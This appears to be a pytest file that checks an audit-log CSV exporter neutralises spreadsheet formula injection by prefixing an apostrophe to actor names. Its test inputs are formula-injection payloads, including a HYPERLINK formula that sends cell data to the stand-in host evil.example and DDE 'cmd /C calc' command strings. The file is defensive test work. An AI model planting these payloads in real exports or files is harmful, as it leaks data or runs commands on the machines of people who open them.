"""A name that is a formula, in an export that somebody opens in a spreadsheet."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from chimera.adapters.files.audit_export import AuditExport, write_export
from chimera.models.audit.export import ExportHeader
from chimera.models.audit.proof import EntryRow

NOW = datetime.now(UTC)
ZEROS = "00" * 32
HEADER = ExportHeader(
    tenant_id="acme", exported_at=NOW, after_seq=0, after_hash=ZEROS, head_seq=1, head_hash=ZEROS, keys=()
)


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
    ],
)
def test_a_spreadsheet_computes_it(name: str, tmp_path: Path) -> None:
    row = EntryRow(1, NOW, "review.decided", name, None, None, "{}", "{}", bytes(32))
    path = tmp_path / "export.csv"
    write_export(path, HEADER, [row], as_csv=True)
    [_, entry] = csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""))
    cell = entry["actor"]
    # A spreadsheet leaves away one apostrophe, and what follows is text.
    assert cell.startswith("'")
    assert cell[1:] == name
    assert (entry["seq"], entry["record"]) == ("1", "entry")
    [[read]] = AuditExport(path).entries()
    assert read.actor == name
